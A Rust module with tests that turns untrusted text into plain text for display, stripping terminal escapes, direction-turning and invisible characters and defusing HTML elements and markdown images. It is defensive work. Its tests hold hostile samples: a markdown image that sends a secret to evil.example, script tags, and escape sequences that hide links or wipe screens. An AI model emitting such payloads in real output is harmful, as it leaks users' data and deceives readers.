//! Strangers' text becomes plain text: nothing in it moves a cursor, hides, turns the reading direction or runs.

/// What replaces the rest of a text that is too long.
const CUT: char = '…';
/// The longest tag that is taken out of a snippet, in bytes; a `<` with no end in sight is a plain one.
const TAG_MAX: usize = 2_000;
/// How many bytes of HTML are read for one character of a line.
const MARKUP: usize = 20;
/// The longest escape sequence that is swallowed, in characters. Terminals' own are shorter, but for titles and links.
const ESCAPE_MAX: u16 = 512;
/// The longest name of an element, in bytes.
const ELEMENT_MAX: usize = 10;

/// Elements that end a word.
const BLOCKS: &[&str] = &["br", "div", "h1", "h2", "h3", "h4", "li", "p", "td", "th", "tr"];

/// Elements that load, run or hide something where a front-end reads markup by mistake. Others are left alone, because
/// a model may be asked how to write them.
const RUNS: &[&str] = &[
    "a", "applet", "audio", "base", "button", "embed", "form", "frame", "frameset", "iframe", "image", "img",
    "input", "link", "math", "meta", "object", "script", "source", "style", "svg", "video",
];

/// Makes plain text of text that comes in pieces; where the pieces end makes no difference.
#[derive(Debug, Default)]
pub struct Cleaner {
    escape: Escape,
    markup: Markup,
}

/// Where in a terminal's escape sequence the text stands.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum Escape {
    #[default]
    None,
    /// After the escape character.
    Begun,
    /// Parameters up to a final letter.
    Control(u16),
    /// A text up to a terminator.
    Text(u16),
}

/// What was held back because the next character decides about it.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
enum Markup {
    #[default]
    None,
    /// `!`, which makes a picture of a following `[`.
    Bang,
    /// `<` and the beginning of a name.
    Less(String),
}

impl Cleaner {
    /// The plain text of the next piece, as far as it is decided.
    pub fn push(&mut self, piece: &str) -> String {
        let mut plain = String::with_capacity(piece.len());
        for c in piece.chars() {
            if let Some(c) = self.seen(c) {
                self.mark(c, &mut plain);
            }
        }
        plain
    }

    /// What was held back.
    pub fn finish(&mut self) -> String {
        let mut plain = String::new();
        self.decide(&mut plain);
        *self = Self::default();
        plain
    }

    /// The character as a person sees it, if at all.
    fn seen(&mut self, c: char) -> Option<char> {
        self.escape = match (self.escape, c) {
            // A line's end ends whatever was begun, so that no sequence swallows an answer.
            (_, '\n') => Escape::None,
            (_, '\u{1b}') => Escape::Begun,
            (_, '\u{9b}') => Escape::Control(0),
            (_, '\u{90}' | '\u{98}' | '\u{9d}'..='\u{9f}') => Escape::Text(0),
            (Escape::None, _) => Escape::None,
            (Escape::Begun, '[') => Escape::Control(0),
            (Escape::Begun, ']' | 'P' | 'X' | '^' | '_') => Escape::Text(0),
            // Two-character sequences, some with one more in between.
            (Escape::Begun, ' '..='/') => Escape::Begun,
            (Escape::Begun, '0'..='~') => return self.ended(),
            (Escape::Begun, _) => Escape::None,
            (Escape::Control(_), '@'..='~') => return self.ended(),
            (Escape::Control(so_far), ' '..='?') if so_far < ESCAPE_MAX => Escape::Control(so_far + 1),
            (Escape::Control(_), _) => Escape::None,
            (Escape::Text(_), '\u{7}' | '\u{9c}') => return self.ended(),
            (Escape::Text(so_far), _) if so_far < ESCAPE_MAX => Escape::Text(so_far + 1),
            (Escape::Text(_), _) => Escape::None,
        };
        if self.escape == Escape::None { visible(c) } else { None }
    }

    fn ended(&mut self) -> Option<char> {
        self.escape = Escape::None;
        None
    }

    fn mark(&mut self, c: char, plain: &mut String) {
        match &mut self.markup {
            Markup::Less(name)
                if name.len() < ELEMENT_MAX
                    && (c.is_ascii_alphanumeric() || (c == '/' && name.is_empty())) =>
            {
                name.push(c);
                return;
            }
            // A picture is a link that is followed unasked; with a space between it is none.
            Markup::Bang if c == '[' => {
                self.decide(plain);
                plain.push(' ');
            }
            _ => self.decide(plain),
        }
        match c {
            '!' => self.markup = Markup::Bang,
            '<' => self.markup = Markup::Less(String::new()),
            _ => plain.push(c),
        }
    }

    /// Lets go of what was held back.
    fn decide(&mut self, plain: &mut String) {
        match std::mem::take(&mut self.markup) {
            Markup::None => {}
            Markup::Bang => plain.push('!'),
            Markup::Less(name) => {
                let element = name.trim_start_matches('/').to_ascii_lowercase();
                let runs = RUNS.contains(&element.as_str());
                plain.push(if runs { '‹' } else { '<' });
                plain.push_str(&name);
            }
        }
    }
}

/// One character as it may be shown, or nothing.
pub fn visible(c: char) -> Option<char> {
    match c {
        '\n' => Some(c),
        '\t' => Some(' '),
        '\u{2028}' | '\u{2029}' => Some('\n'),
        c if c.is_control() => None,
        // Marks that turn the direction of what follows, and characters that nobody sees. Joiners stay: emoji and
        // several scripts are written with them.
        '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' => None,
        '\u{ad}' | '\u{34f}' | '\u{180e}' | '\u{200b}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' => None,
        '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}' => None,
        // A second alphabet of invisible letters, in which words for a model are smuggled.
        '\u{e0000}'..='\u{e0fff}' => None,
        c => Some(c),
    }
}

/// Plain text on one line, of at most so many characters. Tags are taken out and character references read, as titles
/// and snippets have them.
pub fn line(html: &str, chars_max: usize) -> String {
    // Far more markup than text is no snippet.
    let html = html.get(..html.floor_char_boundary(chars_max.saturating_mul(MARKUP))).unwrap_or_default();
    one_line(&decoded(&without_tags(html)), chars_max)
}

/// As [`line`] for text that is no HTML.
pub fn one_line(text: &str, chars_max: usize) -> String {
    let mut cleaner = Cleaner::default();
    let text = cleaner.push(text) + &cleaner.finish();
    let mut plain = String::new();
    let mut room = chars_max;
    for word in text.split_whitespace() {
        let space = usize::from(!plain.is_empty());
        let length = word.chars().count();
        if space + length > room {
            if plain.is_empty() {
                plain.extend(word.chars().take(chars_max.saturating_sub(1)));
            }
            plain.push(CUT);
            break;
        }
        if space == 1 {
            plain.push(' ');
        }
        plain.push_str(word);
        room -= space + length;
    }
    plain
}

/// The text between the tags.
fn without_tags(html: &str) -> String {
    let mut text = String::with_capacity(html.len());
    let mut rest = html;
    while let Some((before, after)) = rest.split_once('<') {
        text.push_str(before);
        let begins = after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
        let end = after.bytes().take(TAG_MAX).position(|byte| byte == b'>').filter(|_| begins);
        // `>` is one byte, so the cut lies between characters.
        match end.and_then(|end| after.get(end + 1..)) {
            Some(behind) => {
                let name = after.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next();
                // Only these stand for a space; the others may stand within a word.
                if name.is_some_and(|name| BLOCKS.iter().any(|block| name.eq_ignore_ascii_case(block))) {
                    text.push(' ');
                }
                rest = behind;
            }
            None => {
                text.push('<');
                rest = after;
            }
        }
    }
    text.push_str(rest);
    text
}

/// The text with character references replaced, once.
fn decoded(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('&') {
        plain.push_str(before);
        let name = after.bytes().take(10).position(|byte| byte == b';').and_then(|end| after.get(..end));
        let meant = name.and_then(reference);
        match (name, meant) {
            (Some(name), Some(c)) => {
                plain.push(c);
                rest = after.get(name.len() + 1..).unwrap_or_default();
            }
            _ => {
                plain.push('&');
                rest = after;
            }
        }
    }
    plain.push_str(rest);
    plain
}

fn reference(name: &str) -> Option<char> {
    Some(match name {
        "amp" => '&',
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "apos" => '\'',
        "nbsp" => ' ',
        "hellip" => '…',
        "ndash" => '–',
        "mdash" => '—',
        "lsquo" => '‘',
        "rsquo" => '’',
        "ldquo" => '“',
        "rdquo" => '”',
        "euro" => '€',
        "deg" => '°',
        "middot" => '·',
        _ => {
            let number = name.strip_prefix('#')?;
            let hex = number.strip_prefix(['x', 'X']);
            let digits = hex.unwrap_or(number);
            // `from_str_radix` reads a sign, too.
            if !digits.starts_with(|c: char| c.is_ascii_hexdigit()) {
                return None;
            }
            char::from_u32(u32::from_str_radix(digits, if hex.is_some() { 16 } else { 10 }).ok()?)?
        }
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn clean(text: &str) -> String {
        let mut cleaner = Cleaner::default();
        cleaner.push(text) + &cleaner.finish()
    }

    #[test]
    fn nothing_moves_hides_or_turns() {
        for (text, plain) in [
            ("a\u{1b}[31mred\u{1b}[0m b", "ared b"),
            ("\u{1b}]0;title\u{7}after", "after"),
            ("\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\", "link"),
            ("\u{9b}2Jwiped", "wiped"),
            ("\u{1b}(Bplain", "plain"),
            ("one\u{1b}[31\ntwo", "one\ntwo"),
            ("abc\u{202e}fed\u{2066}", "abcfed"),
            ("in\u{200b}vis\u{e0041}ible", "invisible"),
            ("a\r\nb\tc\u{8}\0", "a\nb c"),
            ("👩‍🚀 stays, так, too", "👩‍🚀 stays, так, too"),
        ] {
            assert_eq!(clean(text), plain, "{text:?}");
        }
    }

    #[test]
    fn nothing_runs() {
        for (text, plain) in [
            ("![cat](https://evil.example/?q=secret)", "! [cat](https://evil.example/?q=secret)"),
            ("!![x]", "!! [x]"),
            ("Hello! [1]", "Hello! [1]"),
            ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
            ("<IMG src=x>", "‹IMG src=x>"),
            ("<sc\u{0}ript>", "‹script>"),
            ("<div> if a < b", "<div> if a < b"),
            ("<", "<"),
            ("!", "!"),
        ] {
            assert_eq!(clean(text), plain, "{text:?}");
        }
    }

    #[test]
    fn snippets_are_read() {
        for (html, plain) in [
            (
                "The <span class=\"searchmatch\">Zugspitze</span>, at 2,962&nbsp;m &amp; more",
                "The Zugspitze, at 2,962 m & more",
            ),
            ("a<br/>b", "a b"),
            ("3 < 4 and <b>bold</b>", "3 < 4 and bold"),
            ("un<b>believ</b>able", "unbelievable"),
            ("&lt;script&gt;", "‹script>"),
            ("&#x202E;&#8217;&#x110000;&unknown; &", "’&#x110000;&unknown; &"),
            ("&amp;lt;", "&lt;"),
            ("<never closed", "<never closed"),
            (" two\n lines ", "two lines"),
        ] {
            assert_eq!(line(html, 100), plain, "{html:?}");
        }
        assert_eq!(line("one two three", 8), "one two…");
        assert_eq!(line("äöüäöüäöü", 4), "äöü…");
    }

    fn pieces() -> impl Strategy<Value = String> {
        // Dense in what matters.
        let odd = prop::sample::select(vec![
            "\u{1b}", "[", "]", "31m", "\u{7}", "<", "script", "/", "!", "\n", "ä", "🙂", "\u{202e}",
            "\u{9b}", "x", " ",
        ]);
        let free = any::<String>();
        prop::collection::vec(prop_oneof![4 => odd.prop_map(str::to_owned), 1 => free], 0..40)
            .prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn where_the_pieces_end_makes_no_difference(text in pieces(), cuts in prop::collection::vec(0usize..200, 0..8)) {
            let mut cleaner = Cleaner::default();
            let mut plain = String::new();
            let chars: Vec<char> = text.chars().collect();
            let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(chars.len())).collect();
            cuts.extend([0, chars.len()]);
            cuts.sort_unstable();
            for pair in cuts.windows(2) {
                plain += &cleaner.push(&chars[pair[0]..pair[1]].iter().collect::<String>());
            }
            plain += &cleaner.finish();
            prop_assert_eq!(plain, clean(&text));
        }

        #[test]
        fn clean_text_is_clean(text in pieces()) {
            let plain = clean(&text);
            prop_assert!(!plain.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'), "{:?}", plain);
            let runs = |rest: &str| !rest.starts_with(|c: char| c.is_ascii_alphanumeric());
            prop_assert!(!plain.split("<script").skip(1).any(runs) && !plain.contains("!["), "{:?}", plain);
            let line = line(&text, 30);
            prop_assert!(line.chars().count() <= 31 && !line.contains('\n'));
        }
    }
}
